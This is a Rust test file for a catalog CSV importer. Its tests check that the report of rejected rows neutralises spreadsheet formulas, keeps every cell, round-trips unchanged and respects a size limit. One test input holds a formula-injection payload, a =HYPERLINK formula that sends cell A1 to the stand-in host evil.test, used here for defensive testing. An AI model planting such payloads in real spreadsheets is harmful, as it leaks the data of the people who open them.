//! The report of rejected rows opens safely in a spreadsheet, has all that the rows have, and comes back as a catalog
//! in which only what was corrected has an effect.

use std::fmt::Write as _;

use domain::catalog::csv::report::MISPLACED_MARK;
use domain::catalog::import::{ImportOutcome, REPORT_BYTES_MAX};
use domain::values::ImportCounts;

use super::shop::Shop;

const HEADER: &str = "sku,name,description,price,currency,stock\n";
const REPORT_HEADER: &str = "\u{feff}line,reason,popshop report \u{2713},sku,name,description,price,currency,stock\r\n";

async fn import(file: &[u8]) -> (Shop, ImportCounts) {
    let shop = Shop::with_file(file).await;
    match shop.import().await {
        Ok(ImportOutcome::Done(counts)) => (shop, counts),
        other => panic!("the import is done, got {other:?}"),
    }
}

async fn report(file: impl AsRef<[u8]>) -> String {
    import(file.as_ref()).await.0.report_text()
}

/// The lines of a report without line number and reason.
fn cells(report: &str) -> Vec<String> {
    let rows = report.split_once("\r\n").unwrap().1;
    let mut lines = Vec::new();
    let (mut line, mut in_quotes, mut commas) = (String::new(), false, 0);
    for character in rows.chars() {
        in_quotes ^= character == '"';
        if commas >= 3 {
            line.push(character);
        }
        commas += usize::from(character == ',' && !in_quotes);
        if character == '\n' && !in_quotes {
            lines.push(std::mem::take(&mut line));
            commas = 0;
        }
    }
    lines
}

#[tokio::test(start_paused = true)]
async fn no_cell_and_no_part_of_one_begins_a_formula() {
    let file = "=sku(),sku,name,description,price,currency,stock\n\
                =1+1,+A,-a,@SUM(A1),\t1,\"\rEUR\",\"=\"\"x\"\",1\"\n\
                x,B,\"x;=HYPERLINK(\"\"http://evil.test/?\"\"&A1,\"\"ok\"\");y\",\"d\n@x\",bad,EUR,1\n\
                x,C,\0=1+1,\0\0=1+1,bad,EUR,1\n";
    let text = report(file).await;
    assert!(
        text.starts_with("\u{feff}line,reason,popshop report \u{2713},'=sku(),sku,name,"),
        "{text}"
    );
    assert_eq!(
        cells(&text),
        [
            "'=1+1,'+A,'-a,'@SUM(A1),\"'\t1\",\"'\rEUR\",\"'=\"\"x\"\",1\"\r\n",
            "x,B,\"x;'=HYPERLINK(\"\"http://evil.test/?\"\"&A1,\"\"ok\"\");y\",\"d\n'@x\",bad,EUR,1\r\n",
            "x,C,\"'\0=1+1\",\"'\0\0=1+1\",bad,EUR,1\r\n",
        ]
    );
}

#[tokio::test(start_paused = true)]
async fn every_cell_of_a_row_is_there_and_nothing_is_cut() {
    let long = "é".repeat(2_000);
    let mut file = format!("{HEADER}A,a,{long},free,EUR,1\nB\nC,Cup,big, blue,7.50,EUR,3\nD,").into_bytes();
    file.extend_from_slice(b"M\xe4g,,1,EUR,1\nE,\"12\" plate\",,1,EUR,1\nF,\"");
    file.resize(file.len() + 100_000, b'x');
    let text = report(&file).await;
    assert!(text.starts_with(REPORT_HEADER), "{text}");
    assert!(
        text.contains("; correct the row, and then remove the \u{fffd} before its sku"),
        "{text}"
    );
    let cells = cells(&text);
    assert_eq!(cells[0], format!("A,a,{long},free,EUR,1\r\n"));
    assert_eq!(cells[1], "\u{fffd}B,,,,,\r\n");
    assert_eq!(cells[2], "\u{fffd}C,Cup,big,\" blue\",7.50,EUR,3\r\n");
    assert_eq!(cells[3], "D,M\u{fffd}g,,1,EUR,1\r\n");
    assert_eq!(cells[4], "\u{fffd}E,\"12\"\" plate\"\"\",,1,EUR,1\r\n");
    // Only what the shop did not keep is cut, and says so.
    assert!(
        cells[5].ends_with("xxx… (cut)\",,,,\r\n"),
        "{}",
        &cells[5][cells[5].len() - 40..]
    );
    assert!(cells[5].len() > 65_000);
}

const MARKS: [&str; 26] = [
    "\"",
    "\"",
    "\"\"",
    ",",
    ",",
    ",",
    "\n",
    "\r\n",
    "\r",
    "=",
    "-",
    "'",
    ";",
    "\t",
    "\0",
    "\u{fffd}",
    "\u{200b}",
    "a",
    "1",
    " ",
    "free",
    "EUR",
    ",1.00,EUR,1\n",
    "A,a,,1.00,EUR,1\n",
    "B,b,c;=d,,EUR,1\n",
    ",,,,,\n",
];

/// Files of random marks below a header, the same ones in every run.
fn files() -> impl Iterator<Item = Vec<u8>> {
    let mut state = 7_u32;
    let mut next = move || {
        state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
        (state >> 16) as usize
    };
    (0..400).map(move |number| {
        let mut file = HEADER.to_owned();
        if number % 3 == 0 {
            file = file.replace("stock", "stock,=note,");
        }
        for row in 0..12 {
            write!(file, "S{row},").unwrap();
            for _ in 0..next() % 14 {
                file.push_str(MARKS[next() % MARKS.len()]);
            }
            file.push('\n');
        }
        let mut file = file.into_bytes();
        if number % 5 == 0 {
            file.extend_from_slice(b"Z,K\xe4se,\xff,1,EUR,1\n");
        }
        file
    })
}

#[tokio::test(start_paused = true)]
async fn a_report_that_comes_back_unchanged_changes_nothing() {
    let (mut rejected, mut misplaced) = (0, 0);
    for file in files() {
        let (shop, counts) = import(&file).await;
        if counts.rows_rejected == 0 {
            continue;
        }
        let text = shop.report_text();
        let (shop, again) = import(text.as_bytes()).await;
        let shown = String::from_utf8_lossy(&file);
        assert_eq!(
            (again.rows_written, again.rows_rejected),
            (0, counts.rows_rejected),
            "{shown}\n{text}"
        );
        // What comes back a second time has the same cells.
        assert_eq!(cells(&shop.report_text()), cells(&text), "{shown}");
        rejected += counts.rows_rejected;
        misplaced += text.matches("before its sku").count();
    }
    assert!(rejected > 2_000 && misplaced > 500, "{rejected} {misplaced}");
}

#[tokio::test(start_paused = true)]
async fn rows_that_were_corrected_are_imported_as_they_were_meant() {
    let file = format!(
        "{}A,\"x;=y\",'tis,free,EUR,1,\n=B,-b,\"d\n+e\",bad,EUR,2,=1\nC,Cup,big, blue,7.50,EUR,3\nD,\"12\" plate\",,1,EUR,4,\n",
        HEADER.replace("stock", "stock,note")
    );
    let text = report(&file).await;
    let shift = text.replace("big,\" blue\",", "\"big, blue\",");
    let corrected = shift
        .replace("free", "1.00")
        .replace("bad", "2.00")
        .replace(&format!("{MISPLACED_MARK}C"), "C")
        .replace(&format!("{MISPLACED_MARK}D"), "D");
    let (shop, counts) = import(corrected.as_bytes()).await;
    assert_eq!((counts.rows_written, counts.rows_rejected), (4, 0), "{corrected}");
    let products: Vec<(String, String, String, u32)> = shop
        .effects()
        .0
        .into_iter()
        .map(|(_, row)| {
            (
                row.sku.to_string(),
                row.details.name,
                row.details.description,
                row.stock,
            )
        })
        .collect();
    let expected = [
        ("=B", "-b", "d\n+e", 2),
        ("A", "x;=y", "'tis", 1),
        ("C", "Cup", "big, blue", 3),
        ("D", "12\" plate\"", "", 4),
    ];
    assert_eq!(
        products,
        expected.map(|(sku, name, text, stock)| (sku.into(), name.into(), text.into(), stock))
    );
    assert_eq!(shop.mails()[0].subject, "Your catalog spring <1>.csv was imported");
}

#[tokio::test(start_paused = true)]
async fn a_report_has_a_limit_and_says_what_is_beyond_it() {
    const ROWS: u64 = 150_000;
    let file = format!("{HEADER}{}", "x\n".repeat(usize::try_from(ROWS).unwrap()));
    let whole = report(&file).await;
    let bytes = whole.len() as u64;
    assert!(
        bytes <= REPORT_BYTES_MAX + 200 && bytes > REPORT_BYTES_MAX - 200,
        "{bytes}"
    );
    let last = whole.lines().last().unwrap();
    let listed = whole.lines().count() as u64 - 2;
    assert_eq!(
        last,
        format!(
            ",{} more rows were rejected; this report is full with 16777216 bytes: correct the catalog and upload all of \
             it again",
            ROWS - listed
        )
    );

    let shop = Shop::divided(&file, 0, 100_000).await;
    let ranges = shop.ranges().await;
    for range in &ranges {
        shop.ingest_to_the_end(range).await;
    }
    let outcome = shop.finish(u32::try_from(ranges.len()).unwrap()).await.unwrap();
    assert!(matches!(outcome, ImportOutcome::Done(counts) if counts.rows_rejected == ROWS));
    assert!(
        shop.report_text() == whole,
        "the same report, however the file was divided"
    );

    // The last line is no row.
    let (_, counts) = import(whole.as_bytes()).await;
    assert_eq!((counts.rows_read, counts.rows_written), (listed, 0));
}

#[tokio::test(start_paused = true)]
async fn a_sheet_of_empty_rows_makes_no_report() {
    let file = format!("{HEADER}A,a,,1,EUR,1\n{}", ",,,,,\n".repeat(100_000));
    let (shop, counts) = import(file.as_bytes()).await;
    assert_eq!((counts.rows_read, counts.rows_written, counts.percent()), (1, 1, 100));
    assert_eq!(shop.memory.calls_of("reports.finish"), 0);
}
